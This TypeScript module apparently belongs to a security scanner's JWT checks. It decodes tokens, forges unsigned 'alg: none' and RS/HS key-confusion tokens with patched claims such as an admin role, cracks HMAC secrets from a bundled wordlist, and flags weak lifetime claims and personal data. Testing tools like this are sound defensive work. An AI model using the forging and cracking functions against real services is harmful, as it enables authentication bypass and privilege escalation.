/**
 * Offline JWT helpers for the SH-JWT checks: decoding, forging `alg: none` and RS/HS
 * key-confusion variants, cracking HMAC keys against a small bundled wordlist, and inspecting
 * claims. Everything runs in-process with `node:crypto`; no dictionary is downloaded.
 */
import { createHmac, createPublicKey } from 'node:crypto';
import { COMMON_JWT_SECRETS } from './secrets-wordlist.js';

export { COMMON_JWT_SECRETS };

/** A JWS in compact serialisation whose header and payload are JSON objects. */
export interface DecodedJwt {
  header: Record<string, unknown>;
  payload: Record<string, unknown>;
  /** The third segment as sent (base64url, possibly empty). */
  signature: string;
  /** `<header>.<payload>` exactly as sent: what the signature covers. */
  signingInput: string;
  raw: string;
}

const SEGMENT = /^[A-Za-z0-9_-]*$/;

function parseJsonObject(segment: string): Record<string, unknown> | null {
  if (segment.length === 0 || !SEGMENT.test(segment)) return null;
  try {
    const value: unknown = JSON.parse(Buffer.from(segment, 'base64url').toString('utf8'));
    return value !== null && typeof value === 'object' && !Array.isArray(value)
      ? (value as Record<string, unknown>)
      : null;
  } catch {
    return null;
  }
}

/**
 * Decodes a compact JWS JWT without verifying it. Returns `null` for anything else (opaque
 * tokens, JWE with five segments, a payload that is not a JSON object, a header without `alg`).
 *
 * @example decodeJwt('eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.')?.payload // { sub: '1' }
 */
export function decodeJwt(token: string): DecodedJwt | null {
  const parts = token.trim().split('.');
  if (parts.length !== 3) return null;
  const [h, p, s] = parts as [string, string, string];
  if (!SEGMENT.test(s)) return null;
  const header = parseJsonObject(h);
  if (header === null || typeof header['alg'] !== 'string') return null;
  const payload = parseJsonObject(p);
  if (payload === null) return null;
  return { header, payload, signature: s, signingInput: `${h}.${p}`, raw: token.trim() };
}

function encodeSegment(value: Record<string, unknown>): string {
  return Buffer.from(JSON.stringify(value), 'utf8').toString('base64url');
}

/**
 * Unsigned variants of a token (CVE-2015-2951 family): `alg` set to `none`, `None`, `NONE` and
 * `nOnE`, each with an empty signature after the trailing dot and without the dot. The payload
 * may be patched, e.g. to change `sub` or a role.
 *
 * @example forgeAlgNone(decodeJwt(token)!, { role: 'admin' }).length // 8
 */
export function forgeAlgNone(
  jwt: DecodedJwt,
  payloadPatch: Record<string, unknown> = {},
): string[] {
  const payload = encodeSegment({ ...jwt.payload, ...payloadPatch });
  const out = new Set<string>();
  for (const alg of ['none', 'None', 'NONE', 'nOnE']) {
    const input = `${encodeSegment({ ...jwt.header, alg })}.${payload}`;
    out.add(`${input}.`);
    out.add(input);
  }
  return [...out];
}

export type HmacAlgorithm = 'HS256' | 'HS384' | 'HS512';
const HASH_OF: Record<HmacAlgorithm, string> = {
  HS256: 'sha256',
  HS384: 'sha384',
  HS512: 'sha512',
};

function isHmacAlgorithm(alg: unknown): alg is HmacAlgorithm {
  return alg === 'HS256' || alg === 'HS384' || alg === 'HS512';
}

/**
 * Tries each candidate secret against an HS256/384/512 token and returns the one that signed it,
 * or `null`. Other algorithms return `null` at once. Note that the empty string is a valid
 * answer (the wordlist starts with it), so test the result against `null`, not for truthiness.
 *
 * @example findHmacSecret(decodeJwt(jwt.sign({ sub: '1' }, 'secret'))!) // 'secret'
 */
export function findHmacSecret(
  jwt: DecodedJwt,
  wordlist: readonly string[] = COMMON_JWT_SECRETS,
): string | null {
  const alg = jwt.header['alg'];
  if (!isHmacAlgorithm(alg)) return null;
  const signature = Buffer.from(jwt.signature, 'base64url');
  const hash = HASH_OF[alg];
  for (const secret of wordlist) {
    const mac = createHmac(hash, secret).update(jwt.signingInput).digest();
    // Offline comparison of a value we computed ourselves: no timing side channel to protect.
    if (mac.equals(signature)) return secret;
  }
  return null;
}

/**
 * Signs a header and payload with an HMAC algorithm; `alg` in the header is set to match.
 *
 * @example signHs({ typ: 'JWT' }, { sub: '1' }, 'secret') // 'eyJ0eXAiOiJKV1Qi…'
 */
export function signHs(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  secret: string | Buffer,
  alg: HmacAlgorithm = 'HS256',
): string {
  const input = `${encodeSegment({ ...header, alg })}.${encodeSegment(payload)}`;
  const mac = createHmac(HASH_OF[alg], secret).update(input).digest('base64url');
  return `${input}.${mac}`;
}

/**
 * RS/HS key confusion (CVE-2016-10555): the token re-signed with HS256 using the server's public
 * key as the HMAC secret. A verifier that takes `alg` from the token and the key from its config
 * accepts it. Because the exact key bytes such a verifier uses are unknown, several forms are
 * tried: the PEM as given, trimmed with and without a final newline, with CRLF line endings,
 * re-exported as SPKI and PKCS#1 PEM, and the DER bytes. Returns `[]` unless the token uses an
 * RS/ES/PS algorithm.
 *
 * @example forgeAlgConfusion(decodeJwt(rs256Token)!, publicKeyPem)[0] // HS256 token
 */
export function forgeAlgConfusion(
  jwt: DecodedJwt,
  publicKeyPem: string,
  payloadPatch: Record<string, unknown> = {},
): string[] {
  const alg = jwt.header['alg'];
  if (typeof alg !== 'string' || !/^(RS|ES|PS)(256|384|512)$/.test(alg)) return [];
  const payload = { ...jwt.payload, ...payloadPatch };
  const out = new Set<string>();
  for (const key of keyForms(publicKeyPem)) out.add(signHs(jwt.header, payload, key, 'HS256'));
  return [...out];
}

function keyForms(pem: string): (string | Buffer)[] {
  const trimmed = pem.trim();
  const forms: (string | Buffer)[] = [
    pem,
    `${trimmed}\n`,
    trimmed,
    `${trimmed.replace(/\r?\n/g, '\r\n')}\r\n`,
  ];
  try {
    const key = createPublicKey(pem);
    forms.push(String(key.export({ type: 'spki', format: 'pem' })));
    if (key.asymmetricKeyType === 'rsa')
      forms.push(String(key.export({ type: 'pkcs1', format: 'pem' })));
    forms.push(key.export({ type: 'spki', format: 'der' }));
  } catch {
    // Not a parseable key: the textual forms above are still worth trying.
  }
  const seen = new Set<string>();
  return forms.filter((f) => {
    const id = Buffer.isBuffer(f) ? `der:${f.toString('hex')}` : `pem:${f}`;
    if (seen.has(id)) return false;
    seen.add(id);
    return true;
  });
}

export type PersonalDataKind =
  | 'email'
  | 'phone'
  | 'name'
  | 'address'
  | 'birthdate'
  | 'national-id'
  | 'card'
  | 'other';

/** What the claims of a token reveal about its lifetime and its holder. */
export interface ClaimFindings {
  missingExp: boolean;
  /** `exp − iat` when both are numbers. */
  expSecondsFromIat: number | null;
  /** The lifetime (from `iat`, or from now when `iat` is missing) exceeds the maximum. */
  farFutureExp: boolean;
  /** Claims (dotted paths) holding personal data; values are never copied. */
  personalData: { claim: string; kind: PersonalDataKind }[];
  /** Registered claims SH-JWT-02 expects that are absent: of `exp`, `iat`, `iss`, `aud`, `jti`. */
  missingClaims: string[];
  /** `exp` is in the past at `nowSeconds`. */
  expired: boolean;
  /** `nbf` is later than `nowSeconds`. */
  notYetValid: boolean;
}

export interface InspectClaimsOptions {
  /** Current time in epoch seconds. @default Math.floor(Date.now() / 1000) */
  nowSeconds?: number;
  /** Lifetime above which `exp` counts as far in the future. @default 86_400 (24 h) */
  maxLifetimeSeconds?: number;
}

/**
 * Checks lifetime claims and looks for personal data by claim name and by value shape.
 *
 * @example inspectClaims(decodeJwt(token)!, { nowSeconds: 1_700_000_000 }).missingExp // true
 */
export function inspectClaims(
  jwt: DecodedJwt,
  {
    nowSeconds = Math.floor(Date.now() / 1000),
    maxLifetimeSeconds = 86_400,
  }: InspectClaimsOptions = {},
): ClaimFindings {
  const { exp, iat, nbf } = jwt.payload;
  const hasExp = typeof exp === 'number' && Number.isFinite(exp);
  const hasIat = typeof iat === 'number' && Number.isFinite(iat);
  const expSecondsFromIat = hasExp && hasIat ? exp - iat : null;
  const lifetime = hasExp ? exp - (hasIat ? iat : nowSeconds) : null;
  const farFutureExp =
    hasExp && ((lifetime ?? 0) > maxLifetimeSeconds || exp - nowSeconds > maxLifetimeSeconds);
  const missingClaims = ['exp', 'iat', 'iss', 'aud', 'jti'].filter(
    (c) => jwt.payload[c] === undefined,
  );
  const personalData: ClaimFindings['personalData'] = [];
  scanClaims(jwt.payload, '', personalData);
  return {
    missingExp: !hasExp,
    expSecondsFromIat,
    farFutureExp,
    personalData,
    missingClaims,
    expired: hasExp && exp <= nowSeconds,
    notYetValid: typeof nbf === 'number' && nbf > nowSeconds,
  };
}

const REGISTERED = new Set([
  'iss',
  'aud',
  'exp',
  'nbf',
  'iat',
  'jti',
  'typ',
  'scope',
  'scp',
  'azp',
  'sid',
  'cnf',
]);

const NAME_RULES: [RegExp, PersonalDataKind][] = [
  [/e[-_]?mail/i, 'email'],
  [/phone|mobile|msisdn|^tel$|telephone/i, 'phone'],
  [/birth|^dob$|date_?of_?birth/i, 'birthdate'],
  [
    /ssn|social_?security|national_?id|^nin$|passport|tax_?id|^tin$|id_?number|personnummer|aadhaar/i,
    'national-id',
  ],
  [/card_?number|^pan$|credit_?card|^cc_?num/i, 'card'],
  [/address|street|postal|^zip|post_?code|^city$|^locality$/i, 'address'],
  [
    /^(name|given_?name|family_?name|first_?name|last_?name|middle_?name|full_?name|surname|nickname|display_?name)$/i,
    'name',
  ],
  [
    /gender|^sex$|ethnic|religion|^ip$|ip_?addr|^location$|^lat(itude)?$|^lo?ng(itude)?$|salary|health/i,
    'other',
  ],
];

const EMAIL = /^[^\s@]+@[^\s@]+\.[A-Za-z]{2,}$/;
const PHONE = /^\+?[\d ()./-]{7,20}$/;
const SSN = /^\d{3}-\d{2}-\d{4}$/;

function scanClaims(value: unknown, path: string, out: ClaimFindings['personalData']): void {
  if (value === null || typeof value !== 'object') return;
  for (const [key, inner] of Object.entries(value as Record<string, unknown>)) {
    const claim = path === '' ? key : `${path}.${key}`;
    if (path === '' && REGISTERED.has(key)) continue;
    const kind = kindOf(key, inner);
    if (kind !== null) out.push({ claim, kind });
    else if (typeof inner === 'object') scanClaims(inner, claim, out);
  }
}

function kindOf(key: string, value: unknown): PersonalDataKind | null {
  if (typeof value === 'string') {
    if (EMAIL.test(value)) return 'email';
    if (SSN.test(value)) return 'national-id';
    const digits = value.replace(/\D/g, '');
    if (
      /^[\d -]{13,23}$/.test(value) &&
      digits.length >= 13 &&
      digits.length <= 19 &&
      luhn(digits)
    ) {
      return 'card';
    }
    if (PHONE.test(value) && digits.length >= 9 && digits.length <= 15 && /[+ ()-]/.test(value))
      return 'phone';
  }
  if (key === 'sub') return null;
  if (value === null || value === undefined || value === '' || typeof value === 'boolean')
    return null;
  for (const [re, kind] of NAME_RULES) if (re.test(key)) return kind;
  return null;
}

function luhn(digits: string): boolean {
  let sum = 0;
  for (let i = 0; i < digits.length; i++) {
    let d = digits.charCodeAt(digits.length - 1 - i) - 48;
    if (i % 2 === 1) {
      d *= 2;
      if (d > 9) d -= 9;
    }
    sum += d;
  }
  return sum % 10 === 0;
}
